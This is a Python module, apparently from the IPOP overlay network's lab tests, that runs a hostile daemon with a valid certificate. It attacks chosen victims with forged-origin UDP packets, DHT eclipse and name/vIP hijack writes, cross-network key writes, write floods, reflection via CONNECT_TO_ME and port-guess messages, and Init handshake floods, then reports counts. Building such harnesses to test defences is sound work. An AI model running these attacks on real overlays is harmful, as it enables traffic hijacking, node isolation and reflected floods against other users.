"""A hostile build of ipopd for the lab's attack tests: an insider holding one valid certificate.

It runs the real daemon (config, bundle, TAP, DHT: it joins like any member) and, once it holds
its address, attacks the members named by ``--victims`` for ``--duration`` seconds, every attack
bounded in count:

- **forged origins**: UDP packets whose inner source is one victim's vIP, to another victim's
  vIP, carrying ``MARKER``: routed in the first victim's name (a forwarder's forgery, hops 1),
  and direct over the attacker's own links (the data plane's anti-spoofing);
- **eclipse**: made-up ids next to each victim's name and vIP keys, planted with forged DHT
  pings, answering for those keys with the attacker's own record
  (:class:`ipop.testing.hostile.Eclipser`), plus plain DHT writes of the victims' keys, other
  networks' keys, a second vIP and a flood of writes under its own name;
- **reflection**: CONNECT_TO_ME and port-guessing GO messages (its own, correctly signed)
  naming ``--reflect`` (an address that runs nothing) as the endpoint to contact;
- **Init flood**: handshake-shaped garbage at ``--underlay`` endpoints.

Across networks on a shared overlay (issue 17): ``--foreign NAME=VIP@NODEID`` names victims of
another network that it knows of from outside its own DHT, and ``--foreign-namespace`` that
network's DHT namespace; it then reads and writes those victims' keys there (a read counts as
``..._held`` where its own store holds the key), counts the records of that network it holds
as a replica and how many show a victim's address (``dht_foreign_records_readable``: none
once the network's records are sealed, :mod:`ipop.dht.seal`), forges IP between them in
their names and sends them IP from its own links, as above.

What it sent is written to ``--report`` as JSON when it stops. Lab use only: the lab's tests
start it in a namespace of their own instead of ``ipop.tools.ipopd``.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import logging
import os
import random
import socket
import sys
import time
from ipaddress import IPv4Address
from pathlib import Path
from typing import Any

from ipop.aio.daemon import Daemon, DaemonSettings
from ipop.config import load_config
from ipop.dht.read import NoQuorum
from ipop.dht.record import Record, ip_key, key_id, name_key, namespace_of, user_key
from ipop.identity import NetworkCA
from ipop.overlay.messages import (
    FLAG_EXACT,
    KIND_BIRTHDAY,
    KIND_CTM,
    KIND_IP,
    ConnectToMe,
    Purpose,
)
from ipop.testing.hostile import Eclipser, forge_routed, send_routed_raw
from ipop.tools.ipopd import NodeServices, load_valid_bundle, run_daemon, setup_logging
from ipop.types import Endpoint, NodeId
from ipop.vnet.packet import build_ipv4, build_udp

MARKER = b"IPOP-FORGED-ORIGIN"
_log = logging.getLogger("ipop-hostile")
_GO_OP = 0x02  # ipop.nat.portguess's GO: op | IPv4 to knock on | 12-byte token
DHT_FLOOD = 200  # writes of its own keys, bounded like every attack here
_EVIL = bytes((100, 64, 0, 99))  # an address the attacker would have a victim's name point to


class Attacker:
    """The attacks of the module docstring, run once the daemon is ready."""

    def __init__(self, daemon: Daemon, args: argparse.Namespace) -> None:
        self.daemon = daemon
        self.args = args
        self.sent: dict[str, int] = {}
        self.rng = random.Random(os.urandom(8))

    def _count(self, what: str, n: int = 1) -> None:
        self.sent[what] = self.sent.get(what, 0) + n

    async def run(self) -> None:
        d = self.daemon
        node = d.node
        assert node is not None and node.dht is not None
        victims: list[tuple[str, IPv4Address, NodeId]] = []
        for name in self.args.victims:
            try:
                vip = await d.resolve(name)
                owner = None if vip is None else await d.lookup_owner(vip)
            except NoQuorum:
                continue
            if vip is not None and owner is not None:
                victims.append((name, vip, owner))
        self.sent["victims_found"] = len(victims)
        victims += self.args.foreign
        deadline = time.monotonic() + self.args.duration
        expires = time.time() + 600
        eclipsers = []
        for name, vip, _ in victims[:2]:
            for key, value in ((name_key(d.namespace, name), (d.vip or vip).packed),
                               (ip_key(d.namespace, vip), b"")):  # fmt: skip
                rec = Record.sign(node.member, key, value, seq=1 << 20, expires_at=expires)
                eclipsers.append(Eclipser(node, key_id(key), rec))
        for e in eclipsers:
            self._count("eclipse_plants", e.plant([v[2] for v in victims]))
        # Plain writes a modified build can make: others' keys, foreign keys, a second vIP.
        dht = node.dht
        spare = IPv4Address(int(d.subnet.network_address) + 4000)
        # Another network's namespace (a CA of its own, same name or not): not ours to write.
        foreign = namespace_of(NetworkCA.create("othernet", now=time.time()).trust)
        writes = [
            ("dht_foreign_write", dht.put(name_key(foreign, "x"), b"y", 600)),
            ("dht_second_vip", dht.create(ip_key(d.namespace, spare), b"", 600)),
        ]
        theirs = self.args.foreign_namespace
        for name, vip, _ in self.args.foreign if theirs is not None else ():
            # Another network's keys of its members, signed with our own certificate.
            writes.append(("dht_foreign_name_hijack", dht.put(name_key(theirs, name), _EVIL, 600)))
            writes.append(("dht_foreign_vip_hijack", dht.create(ip_key(theirs, vip), b"", 600)))
        for name, vip, _ in victims:
            writes.append(("dht_name_hijack", dht.put(name_key(d.namespace, name), _EVIL, 600)))
            writes.append(("dht_vip_hijack", dht.create(ip_key(d.namespace, vip), b"", 600)))
        # A flood of writes of its own: replicas keep a quota of them (8 user keys).
        writes += [
            ("dht_flood", dht.put(user_key(d.namespace, f"flood{i}"), bytes(200), 600))
            for i in range(DHT_FLOOD)
        ]
        for what, write in writes:
            try:
                ok = await write
            except Exception:  # a guard on our own side refused to send it: fine too
                ok = False
            self._count(f"{what}_{'accepted' if ok else 'refused'}")
        for name, vip, _ in self.args.foreign if theirs is not None else ():
            # Another network's names and addresses, asked of its replicas like a member.
            for what, key in (("name", name_key(theirs, name)), ("vip", ip_key(theirs, vip))):
                held = "_held" if dht.storage.lookup(key_id(key)) is not None else ""
                found = await dht.get(key) is not None
                self._count(f"dht_foreign_{what}_read_{'found' if found else 'none'}{held}")
        reflect = None if self.args.reflect is None else Endpoint(*self.args.reflect)
        flood = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        flood.setblocking(False)
        try:
            while time.monotonic() < deadline:
                self._forge_ip(victims)
                if reflect is not None:
                    self._reflect(victims, reflect)
                self._init_flood(flood)
                await asyncio.sleep(0.05)  # a bounded rate: 20 rounds a second
        finally:
            flood.close()
        self.sent["eclipse_answers"] = sum(e.answered for e in eclipsers)
        if theirs is not None:
            await self._inspect_store(theirs)

    async def _inspect_store(self, theirs: str) -> None:
        """What this node, a replica outside ``theirs``' network, holds of that network's
        records, and how many of them show one of the foreign victims' addresses (plain in a
        key, or as a name's value). Waits (bounded) until it holds some: store-on-join and
        the owners' writes reach a new replica within seconds."""
        node = self.daemon.node
        assert node is not None and node.dht is not None
        storage = node.dht.storage
        marks = [m for _, vip, _ in self.args.foreign for m in (str(vip).encode(), vip.packed)]
        deadline = time.monotonic() + 30
        held: list[Record] = []
        while time.monotonic() < deadline:
            held = [r for r in storage.records() if r.key.startswith(f"{theirs}:")]
            if held:
                break
            await asyncio.sleep(0.5)
        self.sent["dht_foreign_records_held"] = len(held)
        self.sent["dht_foreign_records_readable"] = sum(
            any(m in r.key.encode() + r.value for m in marks) for r in held
        )

    def _forge_ip(self, victims: list[tuple[str, IPv4Address, NodeId]]) -> None:
        node = self.daemon.node
        assert node is not None
        core, now = node.core, node.clock()
        for _, src_vip, src_id in victims:
            for _, dst_vip, dst_id in victims:
                if src_id == dst_id:
                    continue
                udp = build_udp(src_vip, dst_vip, 4000, 9, MARKER)
                packet = build_ipv4(src_vip, dst_vip, 17, udp)
                # Routed in the source victim's name, as a forwarder would.
                forged = forge_routed(node, src_id, dst_id, KIND_IP, packet)
                self._count("forged_routed_ip", forged)
                # Over our own link (or routed from us): the inner source is not ours.
                if core.send(dst_id, KIND_IP, packet, now=now):
                    self._count("spoofed_direct_ip")
        if node.driver is not None:
            node.driver.pump()

    def _reflect(self, victims: list[tuple[str, IPv4Address, NodeId]], target: Endpoint) -> None:
        node = self.daemon.node
        assert node is not None
        overlay, now = node.core.overlay, node.clock()
        origin = overlay.origin
        for _, _, dst in victims:
            token = self.rng.getrandbits(32)
            ctm = ConnectToMe(token, Purpose.SHORTCUT, dst, (target,) * 8).encode()
            msg = origin.routed(FLAG_EXACT, 64, KIND_CTM, dst, None, ctm, now=now)
            send_routed_raw(node, dst, msg)
            go = bytes([_GO_OP]) + IPv4Address(target.host).packed + os.urandom(12)
            msg = origin.routed(FLAG_EXACT, 64, KIND_BIRTHDAY, dst, None, go, now=now)
            send_routed_raw(node, dst, msg)
            self._count("ctm_reflect", 1)
            self._count("go_reflect", 1)

    def _init_flood(self, sock: socket.socket) -> None:
        for host, port in self.args.underlay:
            for _ in range(20):
                # Type byte 1 (Init) and an Init's length, the rest noise: parsed, then refused.
                data = b"\x01" + os.urandom(self.rng.randrange(150, 600))
                try:
                    sock.sendto(data, (host, port))
                    self._count("init_flood")
                except BlockingIOError:
                    break


def _endpoint(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return host, int(port)


def _victim(text: str) -> tuple[str, IPv4Address, NodeId]:
    """``NAME=VIP@NODEID`` (40 hex digits) of --foreign."""
    name, _, rest = text.partition("=")
    vip, _, node = rest.partition("@")
    return name, IPv4Address(vip), NodeId(int(node, 16))


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="ipop-hostile", description=__doc__)
    ap.add_argument("--config", required=True)
    ap.add_argument("--victims", type=lambda s: [v for v in s.split(",") if v], required=True)
    ap.add_argument("--duration", type=float, default=10.0)
    ap.add_argument("--reflect", type=_endpoint, default=None)
    ap.add_argument("--underlay", type=lambda s: [_endpoint(x) for x in s.split(",")], default=[])
    ap.add_argument("--report", type=Path, required=True)
    ap.add_argument("--foreign", type=_victim, action="append", default=[])
    ap.add_argument("--foreign-namespace", default=None)
    args = ap.parse_args(argv)
    if args.duration > 120:
        ap.error("--duration is bounded: at most 120 s")
    cfg = load_config(args.config)
    bundle = load_valid_bundle(cfg.bundle)
    setup_logging(cfg.log_level)
    settings = DaemonSettings.from_config(cfg, bundle_hostname=bundle.hostname)
    daemon = Daemon(bundle, settings, services=lambda d: NodeServices(d, cfg))
    attacker = Attacker(daemon, args)
    report: dict[str, Any] = {"done": False}

    def on_ready() -> None:
        async def attack() -> None:
            try:
                await attacker.run()
                report["done"] = True
            except Exception as exc:  # report it: the test reads the report, not our log
                report["error"] = repr(exc)
                _log.exception("event=attack_failed")
            report["sent"] = attacker.sent
            args.report.write_text(json.dumps(report) + "\n")

        asyncio.get_running_loop().create_task(attack())

    daemon_run = daemon.run

    async def run_with_attack(**kwargs: Any) -> None:
        await daemon_run(on_ready=on_ready)

    daemon.run = run_with_attack  # type: ignore[method-assign]
    return run_daemon("ipop-hostile", daemon, cfg.control.socket)


if __name__ == "__main__":
    sys.exit(main())
